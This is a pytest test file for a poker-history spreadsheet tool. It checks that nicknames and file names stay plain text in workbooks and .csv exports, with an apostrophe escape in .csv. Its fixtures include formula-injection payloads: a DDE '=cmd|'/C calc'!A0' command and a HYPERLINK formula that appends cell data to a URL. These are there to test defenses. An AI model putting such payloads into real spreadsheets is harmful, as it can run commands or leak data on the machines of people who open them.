"""A text of somebody else (a nickname, a file's name) stays a text in every workbook and .csv, whatever it begins with or holds."""

import csv
import json
import random
import re
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from support.histories import HOME, SAMPLES, STARS

from xlpoker.cli import main
from xlpoker.errors import BookError, csv_text
from xlpoker.workbook.imports import import_histories
from xlpoker.workbook.results_sheet import MOST_PEOPLE
from xlpoker.workbook.sheet_format import add_series, write_cell

NAMES = {
    "a link": ('=HYPERLINK("http://example.org/?x="&C5,"Anna")', None),
    "a command": ("=cmd|'/C calc'!A0", None),
    "a smiley": ("=)", None),
    "a sum": ("+1-1", None),
    "an error": ("#N/A", None),
    "a control character": ("a\x01b", "a\ufffdb"),
    "no character": ("a\uffffb", "a\ufffdb"),
    "half of a pair": ("a\ud800b", "a?b"),
}
"""Nicknames, and what a workbook shows of them where that is not the same."""
SPELLED = [(name, seen or name) for name, seen in NAMES.values()]
DECK = [rank + suit for suit in "CDHS" for rank in "23456789TJQKA"]


def write_report(folder, name, *options):
    """Write a report on a file of a folder with the command, and return its path."""
    done = CliRunner().invoke(
        main, ["report", str(folder / name), "-o", str(folder / "report.xlsx"), *options]
    )
    assert done.exit_code == 0, done.output
    return folder / "report.xlsx"


def deals(seed, hands=2):
    """Return rows of two hands of five cards."""
    rng = random.Random(seed)
    return [rng.sample(DECK, 5 * hands) for _ in range(30)]


def formulas_of(path):
    """Return the formulas of all sheets of a workbook, and its cells that are errors."""
    with zipfile.ZipFile(path) as package:
        sheets = [
            package.read(name).decode()
            for name in package.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]
    return [found for sheet in sheets for found in re.findall(r'<f>.*?</f>|<c [^>]*t="e"', sheet)]


def texts_of(path):
    """Return all texts of a workbook."""
    return {
        cell
        for sheet in openpyxl.load_workbook(path)
        for row in sheet.values
        for cell in row
        if isinstance(cell, str)
    }


@pytest.mark.sampled(4)
@pytest.mark.parametrize(("name", "seen"), SPELLED[:-1], ids=list(NAMES)[:-1])
def test_nicknames_of_a_season(tmp_path, name, seen):
    """They stand in the rows of *Results*, in headings, and in the legend of the chart."""
    for number in (1, 2):
        with (HOME / f"ledger_pglInvented{number}.csv").open(encoding="utf-8", newline="") as file:
            head, *rows = csv.reader(file)
        at = head.index("player_nickname")
        with (tmp_path / f"{number}.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(
                [
                    head,
                    *(
                        [*row[:at], name, *row[at + 1 :]] if row[at] == "Anna" else row
                        for row in rows
                    ),
                ]
            )
    import_histories(tmp_path, tmp_path / "season.xlsx")
    assert formulas_of(tmp_path / "season.xlsx") == []
    assert seen in texts_of(tmp_path / "season.xlsx")


@pytest.mark.sampled(4)
@pytest.mark.parametrize(("name", "seen"), SPELLED, ids=NAMES)
@pytest.mark.parametrize("ending", ["xlsx", "csv", "parquet"])
def test_nicknames_of_hands(tmp_path, name, seen, ending):
    """A workbook and a Parquet file show them as they are; in a .csv an apostrophe stands before what would become a formula."""
    text = (SAMPLES / "invented.ohh").read_text("utf-8").replace('"Ann"', json.dumps(name))
    (tmp_path / "hands.ohh").write_text(text, "ascii")
    done = CliRunner().invoke(
        main, ["import", str(tmp_path / "hands.ohh"), str(tmp_path / f"hands.{ending}")]
    )
    assert done.exit_code == 0, done.output
    if ending == "xlsx":
        assert name == "#N/A" or formulas_of(tmp_path / "hands.xlsx") == []
        assert seen in texts_of(tmp_path / "hands.xlsx")
    elif ending == "csv":
        with (tmp_path / "hands.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
        assert csv_text(name) in cells
        assert any(cell.startswith(f"{csv_text(name)} ") for cell in cells)  # what was collected


@pytest.mark.sampled(4)
@pytest.mark.parametrize(("name", "seen"), SPELLED[:-1], ids=list(NAMES)[:-1])
def test_nicknames_in_reports(tmp_path, name, seen):
    """They are headings of a report on a table with a row for each player."""
    if name != seen:
        name = seen  # a workbook cannot hold the other
    book = openpyxl.Workbook()
    book.active.append(["Hand id", "Player", "Cards"])
    for number, cards in enumerate(deals(5), 1):
        for player, hand in ((name, cards[:5]), ("Ben", cards[5:])):
            book.active.append([number, None, " ".join(hand)])
            write_cell(book.active, book.active.max_row, 2, player)
    book.save(tmp_path / "night.xlsx")
    made = write_report(tmp_path, "night.xlsx")
    assert formulas_of(made) == []
    assert seen in texts_of(made)


@pytest.mark.sampled(3)
@pytest.mark.parametrize("name", ["=x.csv", "+1.csv", "a\x01b.csv"], ids=ascii)
def test_names_of_files_in_reports(tmp_path, name):
    """The line below the title begins with the name of the file."""
    (tmp_path / name).write_text("".join(",".join(cards) + "\n" for cards in deals(6)), "utf-8")
    made = write_report(tmp_path, name)
    assert formulas_of(made) == []
    sheet = openpyxl.load_workbook(made)["Summary"]
    assert sheet["B3"].value.startswith(name.replace("\x01", "\ufffd"))


@pytest.mark.slow
def test_nicknames_and_currencies_in_reports_of_histories(tmp_path):
    """The sheets of players, starting hands and months name players and currencies in titles, notes and rows."""
    (tmp_path / "hands.txt").write_text(STARS, "utf-8")
    import_histories(tmp_path / "hands.txt", tmp_path / "hands.xlsx", game="holdem")
    book = openpyxl.load_workbook(tmp_path / "hands.xlsx")
    sheet = book["Hands"]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            title = sheet.cell(1, cell.column).value
            if cell.value is not None and (title == "Currency" or title.endswith(" name")):
                write_cell(sheet, cell.row, cell.column, f"={cell.value}")
    book.save(tmp_path / "hands.xlsx")
    made = write_report(tmp_path, "hands.xlsx", "--game", "holdem")
    assert formulas_of(made) == []
    assert {"=Ann", "=USD"} <= texts_of(made)


def test_names_that_differ_by_what_cannot_be_written():
    """Two players whose names are the same once written have a line each in the chart."""
    from openpyxl.chart import LineChart

    book = openpyxl.Workbook()
    chart = LineChart()
    for row in ([None, "a", "b"], [1, 2, 3]):
        book.active.append(row)
    add_series(book.active, chart, 2, range(2, 3), {"a\x01": "112233", "a\x02": "445566"})
    assert [series.tx.v for series in chart.series] == ["a\ufffd", "a\ufffd"]


def test_more_people_than_columns(tmp_path):
    """A ledger that names very many players is refused in one line, before anything is written."""
    head = "player_nickname,player_id,session_start_at,session_end_at,buy_in,buy_out,stack,net\n"
    rows = (f"P{number},i{number},2024-03-05T20:00,,1,,1,0\n" for number in range(MOST_PEOPLE + 1))
    (tmp_path / "ledger.csv").write_text(head + "".join(rows), "utf-8")
    with pytest.raises(
        BookError, match=r"the ledgers name 1,001 players; the sheet Results has room for 1,000"
    ):
        import_histories(tmp_path / "ledger.csv", tmp_path / "season.xlsx")
    assert not (tmp_path / "season.xlsx").exists()


BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("beginning", BEGINNINGS, ids=ascii)
def test_what_a_spreadsheet_takes_for_a_formula(beginning):
    """In a .csv an apostrophe stands before it; characters that control anything are spelled out."""
    cell = csv_text(f"{beginning}1+1")
    assert cell.startswith("'")
    assert cell.isprintable()
    assert csv_text(cell) == cell
